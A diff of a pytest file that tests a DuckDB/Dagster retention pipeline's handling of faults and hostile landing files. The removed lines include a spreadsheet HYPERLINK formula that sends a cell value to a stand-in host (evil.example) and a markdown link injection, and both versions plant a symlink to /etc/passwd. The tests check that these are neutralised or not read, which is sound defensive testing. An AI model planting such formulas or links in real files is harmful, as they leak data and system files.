@@ -1,17 +1,18 @@
-"""Faults end to end: odd and hostile landing files, a run that ran out of memory, two runs at once.
+"""Faults end to end: a run that ran out of memory, odd files, a second run started meanwhile.
 
-One landing folder holds what a hostile but realistic user lands: a Latin-1 file among UTF-8 ones, a line of
-3 MB, a link to /etc/passwd, customer ids that are matplotlib mathtext and names, emails and segments that
-are spreadsheet formulas and markdown. Its first ingest runs with a 2 MB DuckDB memory limit, as in the
-issue that found these faults, and leaves files for the next run. Then two `retention run` start at once on
-one DAGSTER_HOME: the recovering one on that warehouse, and a clean build of a copy of the landing folder in
-a warehouse of its own. One waits for the other; both succeed, and every mart of the recovered warehouse
-equals the clean build's. The checks that stop a run before anything runs come last, one CLI call each.
+The sample's landing folder (the clean build of tests/conftest.py) is copied and given what a hostile but
+realistic user lands beside it: a Latin-1 file among UTF-8 ones, a line of 3 MB, a link to /etc/passwd, an
+empty file. None of them changes a mart (their odd rows are quarantined). The copy's first ingest runs with a
+2 MB DuckDB memory limit, as in the issue that found these faults, and leaves files for the next run. Then
+`retention run --retry-rejected` and, while it runs, `retention nightly` on the same warehouse and
+DAGSTER_HOME: the nightly waits for the run, then finds nothing new. Every mart of the recovered warehouse
+must equal the clean build's. The checks that stop a run before anything runs come last, one CLI call each.
+Hostile values (formulas in names, mathtext ids, markdown) are tested where they are made inert: the export
+(tests/value/test_exports.py), the charts (tests/reporting) and the metadata preview (tests/value).
 """
 
 from __future__ import annotations
 
-import csv
 import shutil
 import subprocess
 import sys
@@ -25,84 +26,54 @@ import pytest
 from pipeline.ingest.assets import MANIFEST_KEY, Landing, ingest_landing_files
 from pipeline.lib.run_guard import lock_files
 from pipeline.lib.warehouse import Warehouse
-from pipeline.sample_data import generate
 from pipeline.settings import load_settings
 from tests.cli_runs import pipeline_env, retention
 from tests.lib.holders import LOCK_HOLDER, Holder
 
-MATHTEXT_ID = "$\\undefinedcmd$"  # once failed the report: `ParseFatalException: Unknown symbol`
-FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-SEGMENT_PREFIX = "@"  # a formula start for a spreadsheet
-SEGMENT_SUFFIX = " **[x](http://evil.example)|**"  # a link and a table cell for Dagster's markdown
-
-
-def _rewrite_csv(path: Path, change) -> None:
-    with path.open(newline="", encoding="utf-8") as handle:
-        rows = list(csv.DictReader(handle))
-    with path.open("w", newline="", encoding="utf-8") as handle:
-        writer = csv.DictWriter(handle, fieldnames=list(rows[0]) if rows else ["customer_id"])
-        writer.writeheader()
-        writer.writerows(change(row) for row in rows)
-
-
-def _make_hostile(landing: Path) -> None:
-    """Every CSV customer id mathtext, every name a formula, every email and segment one too."""
-    for path in sorted(landing.glob("*/*.csv")):
-        text = path.read_text(encoding="utf-8")
-        path.write_text(text.replace("cus_", MATHTEXT_ID + "cus_"), encoding="utf-8")
-
-    def hostile(row: dict) -> dict:
-        return {**row, "name": FORMULA + " " + row["name"], "email": "-" + row["email"],
-                "segment": SEGMENT_PREFIX + row["segment"] + SEGMENT_SUFFIX}
-
-    for path in sorted((landing / "customers").glob("*.csv")):
-        _rewrite_csv(path, hostile)
+EMPTY = "invoices/0000_empty.csv"  # rejected for its content; first in path order, so the starved ingest gets to it
 
 
 def _add_odd_files(landing: Path) -> None:
     invoices = sorted((landing / "invoices").glob("*.csv"))
-    latin = invoices[len(invoices) // 2]
-    latin.write_bytes(latin.read_text(encoding="utf-8").replace("inv_", "inv\u00e4_", 1).encode("latin-1"))
-    long_file = invoices[len(invoices) // 3]
-    lines = long_file.read_text(encoding="utf-8").splitlines()
-    fields = lines[1].split(",")
-    fields[0], fields[4] = "inv_long", "x" * 3_000_000  # an amount of 3 MB: quarantined, the file's rows load
-    long_file.write_text("\n".join([*lines, ",".join(fields)]) + "\n", encoding="utf-8")
+    header = invoices[0].read_text(encoding="utf-8").splitlines()[0]
+    bad_row = "Z\u00fcrich-1,1,cus_000001,,10.00,USD,2024-01-01,2024-02-01,pending,2024-01-01 10:00:00"
+    latin = invoices[len(invoices) // 2]  # its rows load as Latin-1; the odd row is quarantined (status)
+    latin.write_bytes((latin.read_text(encoding="utf-8") + bad_row + "\n").encode("latin-1"))
+    long_file = invoices[len(invoices) // 3]  # an amount of 3 MB: quarantined, the file's other rows load
+    long_row = bad_row.replace("Z\u00fcrich-1", "inv_long").replace("10.00", "x" * 3_000_000).replace("pending", "paid")
+    long_file.write_text(long_file.read_text(encoding="utf-8") + long_row + "\n", encoding="utf-8")
     (landing / "customers" / "passwd.csv").symlink_to("/etc/passwd")
+    (landing / EMPTY).write_bytes(b"")
+    assert header.startswith("invoice_id,line_id,customer_id,subscription_id,amount,")
+
+
+def _wait_until_it_holds(lock: Path, process: subprocess.Popen) -> None:
+    while not (lock.exists() and lock.read_text().strip() == str(process.pid)):
+        assert process.poll() is None, process.communicate()
+        time.sleep(0.05)
 
 
 @pytest.fixture(scope="module")
-def runs(tmp_path_factory):
-    tmp = tmp_path_factory.mktemp("faults")
-    home = tmp / "dagster_home"
-    recovered, clean = tmp / "recovered", tmp / "clean"
-    for folder in (recovered, clean, home):
-        folder.mkdir()
-    generate(recovered / "landing", customers=150, seed=11)
-    _make_hostile(recovered / "landing")
-    _add_odd_files(recovered / "landing")
-    shutil.copytree(recovered / "landing", clean / "landing", symlinks=True)
-
-    # The first ingest with 2 MB of memory, as the Dagster job does it: files are left for the next run.
-    with dg.DagsterInstance.ephemeral() as instance:
+def runs(sample_run, tmp_path_factory):
+    tmp_path = tmp_path_factory.mktemp("faults")
+    clean_dir, _, _ = sample_run
+    shutil.copytree(clean_dir / "landing", tmp_path / "landing")
+    _add_odd_files(tmp_path / "landing")
+    warehouse = tmp_path / "warehouse.duckdb"
+    with dg.DagsterInstance.ephemeral() as instance:  # the ingest job's asset with 2 MB: files are left for later
         starved = dg.materialize([ingest_landing_files], instance=instance, resources={
-            "landing": Landing(path=str(recovered / "landing")),
-            "warehouse": Warehouse(path=str(recovered / "warehouse.duckdb"), memory_limit="2MB", threads=1)})
+            "landing": Landing(path=str(tmp_path / "landing")),
+            "warehouse": Warehouse(path=str(warehouse), memory_limit="2MB", threads=1)})
     manifest = next(m.metadata for m in starved.asset_materializations_for_node("ingest_landing_files")
                     if m.asset_key == MANIFEST_KEY)
-
-    env = {**pipeline_env(recovered), "DAGSTER_HOME": str(home), "RETENTION_EXPORT_DIR": str(recovered / "o'exports")}
-    clean_env = {**pipeline_env(clean), "DAGSTER_HOME": str(home)}
-    first = subprocess.Popen([sys.executable, "-m", "pipeline", "run"], env=env, text=True,
-                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
-    home_lock = lock_files(load_settings(dagster_home=home))[1][0]
-    while not (home_lock.exists() and home_lock.read_text().strip() == str(first.pid)):  # it holds the lock
-        assert first.poll() is None, first.communicate()
-        time.sleep(0.05)
-    second = retention(["run"], clean_env)
-    first_out, first_err = first.communicate()
-    return {"tmp": tmp, "env": env, "home": home, "starved": manifest, "first": (first.returncode, first_out, first_err),
-            "second": second}
+    env = pipeline_env(tmp_path)
+    run = subprocess.Popen([sys.executable, "-m", "pipeline", "run", "--retry-rejected"], env=env, text=True,
+                           stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    _wait_until_it_holds(lock_files(load_settings(warehouse=warehouse))[0][0], run)
+    nightly = retention(["nightly"], env)
+    out, err = run.communicate()
+    return {"tmp": tmp_path, "clean": clean_dir, "starved": manifest, "run": (run.returncode, out, err),
+            "nightly": nightly}
 
 
 def _marts(warehouse: Path) -> dict[str, tuple]:
@@ -113,92 +84,83 @@ def _marts(warehouse: Path) -> dict[str, tuple]:
         return {t: con.execute(f'SELECT count(*), coalesce(sum(hash(m)), 0) FROM marts."{t}" m').fetchone() for t in tables}
 
 
-def test_the_starved_ingest_left_files_for_the_next_run_and_said_so(runs):
-    deferred = runs["starved"]["deferred_files"].value
-    assert "left for the next run" in deferred and "Out of Memory" in deferred
-    with duckdb.connect(str(runs["tmp"] / "clean" / "warehouse.duckdb"), read_only=True) as clean:
-        clean_files = clean.execute("SELECT count(*) FROM ingest.manifest").fetchone()[0]
-    with duckdb.connect(str(runs["tmp"] / "recovered" / "warehouse.duckdb"), read_only=True) as con:
-        errors = con.execute("SELECT count(*) FROM ingest.manifest WHERE error IS NOT NULL").fetchone()[0]
-        files = con.execute("SELECT count(DISTINCT path) FROM ingest.manifest").fetchone()[0]
-    assert errors == 0 and files == clean_files, "no transient failure was recorded as a verdict"
+def _query(runs, sql: str) -> list[tuple]:
+    with duckdb.connect(str(runs["tmp"] / "warehouse.duckdb"), read_only=True) as con:
+        return con.execute(sql).fetchall()
 
 
-def test_two_runs_at_once_on_one_dagster_home_both_succeed_one_after_the_other(runs):
-    code, out, err = runs["first"]
+def test_the_run_after_a_starved_ingest_succeeds_and_equals_a_clean_build(runs):
+    code, _, err = runs["run"]
     assert code == 0, err[-3000:]
-    second = runs["second"]
-    assert second.returncode == 0, second.stderr[-3000:]
-    assert "Another run is using this DAGSTER_HOME (PID" in second.stderr
-    assert "Traceback" not in err + second.stderr
-
-
-def test_the_recovered_marts_equal_a_clean_build(runs):
-    recovered = _marts(runs["tmp"] / "recovered" / "warehouse.duckdb")
-    clean = _marts(runs["tmp"] / "clean" / "warehouse.duckdb")
+    recovered, clean = _marts(runs["tmp"] / "warehouse.duckdb"), _marts(runs["clean"] / "warehouse.duckdb")
     assert len(recovered) >= 11 and recovered == clean
 
 
+def test_the_starved_ingest_left_files_for_the_next_run_and_said_so(runs):
+    deferred = runs["starved"]["deferred_files"].value
+    assert "left for the next run" in deferred and "Out of Memory" in deferred
+    assert _query(runs, "SELECT DISTINCT path FROM ingest.manifest WHERE error IS NOT NULL") == [(EMPTY,)], (
+        "no transient failure was recorded as a verdict")
+
+
+def test_retry_rejected_read_the_rejected_file_again(runs):
+    _, _, err = runs["run"]
+    assert "--retry-rejected: 1 file(s) rejected for their content will be read again" in err
+    verdicts = _query(runs, f"SELECT error FROM ingest.manifest WHERE path = '{EMPTY}' ORDER BY batch_id")
+    assert verdicts == [(f"{EMPTY}: the file is empty (no header, no rows)",)] * 2
+
+
+def test_a_nightly_started_meanwhile_waited_for_the_run_then_found_nothing_new(runs):
+    nightly = runs["nightly"]
+    code, _, err = runs["run"]
+    assert nightly.returncode == 0, nightly.stderr[-3000:]
+    assert "Another run is writing this warehouse (PID" in nightly.stderr
+    assert "Ingest loaded nothing new" in nightly.stdout
+    assert "Traceback" not in err + nightly.stderr
+
+
 def test_odd_files_load_and_links_are_not_read(runs):
-    code, out, err = runs["first"]
-    with duckdb.connect(str(runs["tmp"] / "recovered" / "warehouse.duckdb"), read_only=True) as con:
-        latin = con.execute("SELECT count(*) FROM billing.invoices WHERE invoice_id LIKE 'inv\u00e4_%'").fetchone()[0]
-        long_row = con.execute("SELECT reason, length(raw_value) FROM ingest.quarantine WHERE raw_record LIKE "
-                               "'%inv_long%'").fetchall()
-        leaked = con.execute("SELECT count(*) FROM ingest.quarantine WHERE raw_record LIKE '%root:%'").fetchone()[0]
-    assert latin > 0 and long_row == [("unparseable_number", 3_000_000)] and leaked == 0
+    _, _, err = runs["run"]
+    quarantined = _query(runs, "SELECT raw_value, reason FROM ingest.quarantine WHERE raw_record LIKE "
+                               "'%\u00fcrich-1%' OR raw_record LIKE '%inv_long%' ORDER BY reason")
+    assert [(len(value), reason) for value, reason in quarantined] == [
+        (7, "unknown_status"), (3_000_000, "unparseable_number")]
+    assert _query(runs, "SELECT count(*) FROM ingest.quarantine WHERE raw_record LIKE '%root:%'") == [(0,)]
     assert "customers/passwd.csv: is a symbolic link: not followed, not read" in err
+    assert _query(runs, "SELECT count(*) = count(DISTINCT (loaded_at, entity, customer_id)) "
+                        "FROM ingest.changed_customers") == [(True,)]
 
 
-def test_the_outreach_export_neutralises_formulas(runs):
-    files = list((runs["tmp"] / "recovered" / "o'exports").glob("at_risk_customers_*.csv"))
-    assert len(files) == 1
-    with files[0].open(newline="", encoding="utf-8") as handle:
-        rows = list(csv.DictReader(handle))
-    named = [r for r in rows if r["name"]]  # shop-only customers (ids in Parquet, not rewritten) have no CRM row
-    assert named and all(r["name"].startswith("'" + FORMULA) for r in named)
-    assert all(r["email"].startswith("'-") and r["segment"].startswith("'" + SEGMENT_PREFIX) for r in named)
-
-
-def test_the_report_draws_mathtext_ids_as_text_and_metadata_escapes_them(runs, monkeypatch):
-    with duckdb.connect(str(runs["tmp"] / "recovered" / "warehouse.duckdb"), read_only=True) as con:
-        shown = con.execute("SELECT count(*) FROM (SELECT customer_id FROM marts.at_risk_customers "
-                            "ORDER BY priority_rank LIMIT 10) WHERE customer_id LIKE '$%'").fetchone()[0]
-    assert shown > 0, "the chart of the top at-risk customers has a mathtext id to draw"
-    assert (runs["tmp"] / "recovered" / "reports" / "retention_report.html").exists()
-    monkeypatch.setenv("DAGSTER_HOME", str(runs["home"]))
-    with dg.DagsterInstance.get() as instance:
-        event = instance.get_latest_materialization_event(dg.AssetKey(["marts", "at_risk_customers"]))
-    top = event.asset_materialization.metadata["top_10"].value
-    assert "\\$\\\\undefinedcmd\\$" in top and "\\[x\\]\\(http" in top and "[x](http" not in top
-
-
-def test_a_missing_landing_folder_stops_the_run_naming_the_variable(tmp_path):
-    env = {**pipeline_env(tmp_path), "RETENTION_LANDING_DIR": str(tmp_path / "nowhere")}
+def test_a_missing_landing_folder_stops_the_run_naming_the_variable(tmp_path_factory):
+    tmp = tmp_path_factory.mktemp("no_landing")
+    env = {**pipeline_env(tmp), "RETENTION_LANDING_DIR": str(tmp / "nowhere")}
     result = retention(["run"], env)
     assert result.returncode == 2
-    assert f"RETENTION_LANDING_DIR='{tmp_path / 'nowhere'}' is not accepted" in result.stderr
+    assert f"RETENTION_LANDING_DIR='{tmp / 'nowhere'}' is not accepted" in result.stderr
     assert "--allow-empty" in result.stderr and "Traceback" not in result.stderr
 
 
-def test_a_warehouse_folder_that_cannot_be_written_stops_the_run_before_it_starts(tmp_path):
-    (tmp_path / "landing").mkdir()
-    (tmp_path / "a_file").write_text("not a folder")
-    env = {**pipeline_env(tmp_path), "RETENTION_WAREHOUSE": str(tmp_path / "a_file" / "warehouse.duckdb")}
+def test_a_warehouse_folder_that_cannot_be_written_stops_the_run_before_it_starts(tmp_path_factory):
+    tmp = tmp_path_factory.mktemp("unwritable")
+    (tmp / "landing").mkdir()
+    (tmp / "a_file").write_text("not a folder")
+    env = {**pipeline_env(tmp), "RETENTION_WAREHOUSE": str(tmp / "a_file" / "warehouse.duckdb")}
     result = retention(["run"], env)
     assert result.returncode == 2
-    assert result.stderr.startswith(f"retention: configuration error: RETENTION_WAREHOUSE='{tmp_path / 'a_file'}' is "
-                                    f"not accepted: expected a folder this user can write ({tmp_path / 'a_file'} is a "
+    assert result.stderr.startswith(f"retention: configuration error: RETENTION_WAREHOUSE='{tmp / 'a_file'}' is "
+                                    f"not accepted: expected a folder this user can write ({tmp / 'a_file'} is a "
                                     "file, not a folder)")
-    assert "Traceback" not in result.stderr and not (tmp_path / "dagster_home" / "runs.db").exists()
+    assert "Traceback" not in result.stderr and not (tmp / "dagster_home" / "runs.db").exists()
 
 
-def test_a_run_that_cannot_get_the_lock_in_time_names_the_holder(tmp_path):
-    (tmp_path / "landing").mkdir()
-    env = pipeline_env(tmp_path)
-    warehouse_lock = lock_files(load_settings(warehouse=tmp_path / "warehouse.duckdb"))[0][0]
+def test_a_run_that_cannot_get_the_lock_in_time_names_the_holder(tmp_path_factory):
+    """With --allow-empty, a missing landing folder lets the run go on: as far as the lock another run holds."""
+    tmp = tmp_path_factory.mktemp("locked")
+    env = pipeline_env(tmp)
+    warehouse_lock = lock_files(load_settings(warehouse=tmp / "warehouse.duckdb"))[0][0]
     with Holder(LOCK_HOLDER, warehouse_lock) as other:
-        result = retention(["run", "--wait", "0.5"], env)
+        result = retention(["run", "--allow-empty", "--wait", "0.5"], env)
     assert result.returncode == 1
+    assert f"landing folder {tmp / 'landing'} does not exist: nothing to ingest (--allow-empty)" in result.stderr
     assert f"another run is writing this warehouse (PID {other.pid})" in result.stderr
     assert "Traceback" not in result.stderr
